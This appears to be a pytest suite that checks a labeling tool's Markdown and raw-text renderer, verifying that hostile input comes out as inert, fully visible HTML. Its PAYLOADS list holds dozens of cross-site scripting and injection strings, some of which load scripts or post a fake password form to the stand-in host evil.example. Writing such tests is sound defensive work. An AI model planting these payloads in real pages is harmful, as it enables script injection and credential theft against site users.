"""What strangers and models write, on its way to a page: nothing of it acts, and every word of it is seen."""

from __future__ import annotations

import html
import re
import time
import unicodedata
from collections import Counter
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from labeling import rendering
from labeling.rendering import colours, formulas, mathml, render_raw, render_text, walls

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</p><script>alert(1)</script><p>",
    "</pre></code></div><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif width=1>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)' style='position:fixed;inset:0'>x</div>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,alert></object><embed src=//evil.example>",
    "<style>body{display:none}</style>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password autofocus><button>Sign in</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href=//evil.example target=_blank>out</a>",
    "<a id=desk name=submit>clobber</a>",
    "<form id=decide><input name=attributes></form>",
    "<div hx-get=/logout hx-trigger=load>x</div>",
    '<div data-hx-post="/work/x/skip" data-hx-trigger="load">x</div>',
    "<div hx-on::load='alert(1)' hx-vals='js:{x:alert(1)}'>x</div>",
    "<main id=desk hx-swap-oob=true>gone</main>",
    "<button popovertarget=skip data-key=1>x</button>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- hidden words --> <!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]> <?php echo 1 ?> <!DOCTYPE x>",
    "<plaintext>rest",
    "<xmp><script>alert(1)</script></xmp>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x0a;script:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](<javascript:alert(1)>)",
    '[click](https://evil.example "title\\" onmouseover=alert(1)")',
    '[click](https://evil.example/"onmouseover="alert(1))',
    "[click][ref]\n\n[ref]: javascript:alert(1) 'secret words'",
    "[ref]\n\n[ref]: <data:text/html,<script>alert(1)</script>>",
    "![pixel](https://evil.example/pixel.gif)",
    "![pixel](javascript:alert(1) 'title')",
    "![<script>alert(1)</script>](x)",
    "![a](x onerror=alert(1))",
    "[![nested](https://evil.example/x.png)](https://evil.example)",
    "[**bold [inner](javascript:alert(1))**](https://evil.example)",
    "<https://evil.example>",
    "<javascript:alert(1)> <mail@evil.example>",
    "https://evil.example www.evil.example mail@evil.example",
    "`<script>alert(1)</script>`",
    "`` ` <img src=x onerror=alert(1)> ` ``",
    "````\n```\n</code></pre><script>alert(1)</script>\n```\n````",
    '```"><script>alert(1)</script>\ncode\n```',
    '``` " class="hiddenchar" onclick="alert(1)\ncode\n```',
    "~~~ <img src=x onerror=alert(1)>\ncode\n~~~",
    "    </code></pre><script>alert(1)</script>",
    "| a | <script>alert(1)</script> |\n|---|---|\n| [x](javascript:alert(1)) | <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script> {#id .class onclick=alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "<span class=hiddenchar>U+202E</span>",
    "<p class=cut>Cut here: 64 KiB are shown.</p>",
    "$\\href{javascript:alert(1)}{x}$ \\text{<script>alert(1)</script>}",
]
EVERYDAY = """\
# Sourdough, step by step

Mix **flour** and *water*, then ~~wait~~ rest.
A second line of the same paragraph.

1. Fold
   - twice on a cold day
   - once on a warm one
2. Bake

> Slow is good.

| Hour | What |
| ---: | :--- |
| 8 | feed |

```python
print("rise" if warm < 2 else "wait")
```

Inline `code`, a [recipe](https://bread.example/a_b?c=d&e=f), and a line.

---

End."""


MATHML_VALUES = r"[a-z]+(-[a-z]+)?|\d(\.\d{1,3})?(em)?"


class Page(HTMLParser):
    """The elements, attributes and text of a piece of HTML."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.other: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    @property
    def tags(self) -> list[str]:
        return [tag for tag, _ in self.elements]

    @property
    def text(self) -> str:
        return " ".join(self.texts)


def assert_harmless(markup: str) -> None:
    """Only elements that do nothing, with attributes whose every value is known beforehand."""
    page = Page(markup)
    assert set(page.tags) <= walls.TAGS | mathml.ELEMENTS
    assert page.other == []
    for tag, attributes in page.elements:
        for name, value in attributes.items():
            harmless = {
                "dir": value == "auto",
                "align": value in ("left", "center", "right") and tag in ("td", "th"),
                "start": tag == "ol" and (value or "").isdigit(),
                "class": (tag, value) in (("span", "hiddenchar"), ("pre", "raw"), ("p", "cut"))
                or (tag == "span" and value in colours.CLASSES | {formulas.HELD}),
                **{name: re.fullmatch(MATHML_VALUES, value or "") for name in mathml.ATTRIBUTES.get(tag, ())},
            }
            assert harmless.get(name), (tag, name, value)


def words(text: str) -> list[str]:
    return re.findall(r"[^\W_]+", text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_a_text_says_acts(payload: str) -> None:
    for text in (payload, f"A *line*\n\n{payload}\n\nand more", f"- {payload}\n> {payload}"):
        assert_harmless(render_text(text))
        assert_harmless(render_raw(text))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_word_of_a_text_is_seen(payload: str) -> None:
    seen = words(Page(render_text(payload)).text)
    written = words(html.unescape(payload.replace("\x01", " ")))
    assert set(written) <= set(seen) | {"\x01"}
    assert set(words(payload)) <= set(words(Page(render_raw(payload)).text)) | {"01"}


def test_everyday_markdown_is_laid_out() -> None:
    page = Page(render_text(EVERYDAY))
    assert set(page.tags) == walls.TAGS - {"h4", "h5", "h6"}
    assert words(page.text) == words(EVERYDAY.replace("1. ", "").replace("2. ", ""))  # the numbers are the list's own


def test_a_line_break_is_kept_as_it_was_written() -> None:
    assert render_text("one\ntwo") == '<p dir="auto">one<br>\ntwo</p>\n'


def test_a_link_is_its_text_and_its_address() -> None:
    assert "see here (https://a.example/x_y?q=1&amp;r=%20ü) now" in render_text("see [here](https://a.example/x_y?q=1&r=%20ü) now")


def test_an_image_is_what_was_written() -> None:
    assert '![a cat](https://a.example/cat.png "Tom")' in render_text('![a cat](https://a.example/cat.png "Tom")')


def test_a_reference_stays_in_sight() -> None:
    assert "secret" in render_text("[x]\n\n[x]: https://a.example 'secret'")


def test_what_stands_behind_the_backticks_is_shown() -> None:
    assert "<pre><small>python, of a kind</small><code>x &lt; 1\n</code></pre>" in render_text("```python, of a kind\nx < 1\n```")


def test_headings_begin_below_the_page_and_leave_no_level_out() -> None:
    assert [tag for tag in Page(render_text("## a\n\n#### b\n\n## c\n\n###### d")).tags if tag != "p"] == ["h3", "h4", "h3", "h5"]


def test_cells_keep_their_side() -> None:
    aligned = [attributes.get("align") for tag, attributes in Page(render_text("|a|b|c|\n|:-|:-:|-:|\n|1|2|3|")).elements if tag == "td"]
    assert aligned == ["left", "center", "right"]


def test_a_row_wider_than_its_head_loses_no_cell() -> None:
    page = Page(render_text("|a|b|\n|-|-|\n|c|d|e|"))
    assert "table" not in page.tags
    assert words(page.text) == ["a", "b", "c", "d", "e"]
    assert Page(render_text("|a|b|\n|-|-|\n|c|\n|x \\| y|z|")).tags.count("td") == 4


def test_each_outer_block_finds_its_own_direction() -> None:
    page = Page(render_text("שלום\n\n- مرحبا\n  - x\n\n> a\n\n|a|\n|-|\n|b|"))
    assert [tag for tag, attributes in page.elements if attributes.get("dir") == "auto"] == ["p", "ul", "blockquote", "table"]


@pytest.mark.parametrize(
    "char", ["\u202e", "\u2066", "\u200b", "\u200f", "\ufeff", "\u00ad", "\U000e0041", "\u2028", "\x1b", "\x7f", "\u3164", "\u200d", "\u200c"]
)
def test_a_character_without_ink_is_shown_as_a_chip(char: str) -> None:
    chip = f'<span class="hiddenchar">U+{ord(char):04X}</span>'
    for markup in (render_text(f"a{char}b"), render_raw(f"a{char}b"), render_text(f"```\na{char}b\n```"), render_text(f"[a](b{char}c)")):
        assert chip in markup
        assert char not in markup


def test_an_entity_hides_nothing() -> None:
    assert render_text("a&#x202E;b") == '<p dir="auto">a<span class="hiddenchar">U+202E</span>b</p>\n'


def test_a_chip_cannot_be_forged() -> None:
    forged = '<span class="hiddenchar">U+202E</span>'
    assert "span" not in Page(render_text(forged)).tags
    assert "span" not in Page(render_raw(forged)).tags
    assert "span" not in Page(render_text(html.escape(forged))).tags


def test_every_format_and_control_character_is_hidden_or_has_ink() -> None:
    ink = {*range(0x0600, 0x0606), 0x06DD, 0x070F, 0x0890, 0x0891, 0x08E2, 0x110BD, 0x110CD}
    for code in range(0x110000):
        if unicodedata.category(chr(code)) in ("Cf", "Cc", "Zl", "Zp") and chr(code) not in "\t\n" and code not in ink:
            assert "hiddenchar" in render_raw(f"a{chr(code)}b"), hex(code)


@pytest.mark.parametrize("text", ["👩\u200d💻", "❤\ufe0f\u200d🔥", "می\u200cخواهم", "क्\u200dष", "é e\u0301 ß 漢字", "a\tb"])
def test_spelling_is_left_alone(text: str) -> None:
    assert f">{text}<" in render_text(text)


@pytest.mark.parametrize("text", ["a\u200c\u200db", "👩\u200d\u200d💻", "x\ufe0f\ufe01\ufe02", "ن\u200c\u200cم"])
def test_a_message_in_joiners_is_not_spelling(text: str) -> None:
    assert "hiddenchar" in render_text(text)


def test_a_long_run_of_hidden_characters_is_counted() -> None:
    markup = render_raw("\u200b" * 20_000)
    assert markup.count("hiddenchar") == 13
    assert "and 19,988 more that cannot be seen" in markup


def test_a_long_text_is_shown_cut_and_says_so() -> None:
    for markup in (render_text("é " * 40_000), render_raw("é " * 40_000)):
        assert '<p class="cut">Cut here: 64 KiB are shown of 117 KiB. It is stored, and exported, whole.</p>' in markup
        assert Page(markup).text.count("é") == 21_845
    assert "cut" not in render_text("a" * rendering.SHOWN_BYTES)


@pytest.mark.parametrize(
    ("text", "end"), [("whole words " * 6_000, "whole words "), ("one-two " * 8_192 + "more", "one-two "), ("a " + "b" * 70_000, "b" * 65_534)]
)
def test_no_word_is_cut_through(text: str, end: str) -> None:
    assert render_raw(text).partition("</pre>")[0].endswith(end)


def test_what_no_database_holds_does_no_harm() -> None:
    assert render_text("a\x00b\ud800c") == '<p dir="auto">a\ufffdb\ufffdc</p>\n'


TANGLES = {
    "open brackets": "[" * 50_000,
    "open images": "![" * 30_000,
    "brackets in brackets": "[" * 15_000 + "a" + "](b)" * 15_000,
    "links that never end": "[a](" * 16_000,
    "titles that never end": '[a](b "' * 9_000,
    "quotes in quotes": "> " * 32_000 + "words",
    "lists in lists": "".join(f"{'  ' * depth}- a\n" for depth in range(250)),
    "numbers in numbers": "1. " * 20_000 + "words",
    "lists in quotes": "> - " * 16_000 + "words",
    "bold in bold": "**a " * 8_000 + "a**" * 8_000,
    "a wide table with empty rows": "|a" * 300 + "|\n" + "|-" * 300 + "|\n" + "|\n" * 30_000,
    "many tables": ("|a" * 90 + "|\n" + "|-" * 90 + "|\n" + "|\n" * 90 + "\n") * 100,
}
HEAVY = {
    "open stars": "*a **b _c " * 6_500,
    "stars and lines": "*_" * 32_000,
    "backticks": " ".join("`" * length for length in range(1, 360)),
    "short lines": "a\n" * 32_000,
    "empty items": "-\n" * 32_000,
    "headings": "# a\n" * 16_000,
    "fences": "```\n" * 16_000,
    "angles": "<a" * 32_000,
    "ampersands": "&" * 65_000,
    "tildes": "~~a " * 16_000,
    "backslashes": "\\[" * 32_000,
    "spaces": " \t" * 32_000,
    "dollars": "$a " * 21_000,
    "double dollars": "$$" * 32_000,
    "formulas that never end": "\\(" * 32_000,
    "lines of formulas that never end": "\\[\n" * 21_000,
    "many formulas": "$x$ " * 16_000,
    "a formula of commands": "$" + "\\a" * 700 + "$ ",
    "formulas in formulas": "$" + "{" * 700 + "}" * 700 + "$",
    "a formula of powers": "$" + "x^" * 700 + "$",
    "names of operators that never end": "$" + "\\operatorname{" * 90 + "$",
    "primes": "$x" + "'" * 1_400 + "$",
    "roots that never end": "$" + "\\sqrt[" * 200 + "$",
    "code of one word": "```python\n" + "a " * 32_000 + "\n```",
    "code of one character": "```js\n" + "/\n" * 32_000 + "\n```",
}


@pytest.mark.parametrize("text", TANGLES.values(), ids=TANGLES.keys())
def test_a_tangle_is_shown_as_raw_text(text: str) -> None:
    markup = render_text(text)
    assert 'class="raw"' in markup
    assert "shown as raw text" in markup
    assert_harmless(markup)


@pytest.mark.parametrize("text", [*TANGLES.values(), *HEAVY.values()], ids=[*TANGLES.keys(), *HEAVY.keys()])
def test_no_text_takes_long(text: str) -> None:
    begun = time.process_time()
    render_text(text)
    assert time.process_time() - begun < 3, "a machine under load takes half a second for the worst of these"


def test_ordinary_long_texts_are_not_taken_for_tangles() -> None:
    for text in (
        EVERYDAY * 90,
        "[a](https://a.example) " * 2_500,
        "- **Feed**: at eight, and once more at noon.\n" * 1_000,
        "He rose slowly. " * 4_000 + "\n",
        "x[i][j] = y[j][i]\n" * 500,
        '{"a": [[1, 2], [3, 4]]}\n' * 500,
    ):
        assert "tangled" not in render_text(text)


def test_a_parser_that_fails_takes_no_pair_off_the_desk(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(text: str) -> str:
        raise IndexError(text)

    monkeypatch.setattr(walls, "clean", fail)
    assert '<pre class="raw">\n&lt;b&gt; *x*</pre>' in render_text("<b> *x*")


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from([*"ab1 \n\t#>-+*_~`|:[]()!<>&\\\"'=/.;", "\u202e", "\u200d", "é", "ש", "👩"]), max_size=120))
def test_any_text_is_harmless_whole_and_the_same_again(text: str) -> None:
    markup = render_text(text)
    assert_harmless(markup)
    assert markup == render_text(text)
    assert Counter(char for char in Page(markup).text if char in "abשé") == Counter(char for char in text if char in "abשé")
    assert nh3.clean(markup, tags=walls.TAGS, attributes={"*": {"dir", "align", "start", "class"}}, link_rel=None) == markup


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_raw_text_is_the_text(text: str) -> None:
    markup = render_raw(text.replace("\r", ""))
    assert_harmless(markup)
    if "hiddenchar" not in markup:
        assert Page(markup).text.replace("\n", "").replace(" ", "") == text.replace("\r", "").replace("\n", "").replace(" ", "")
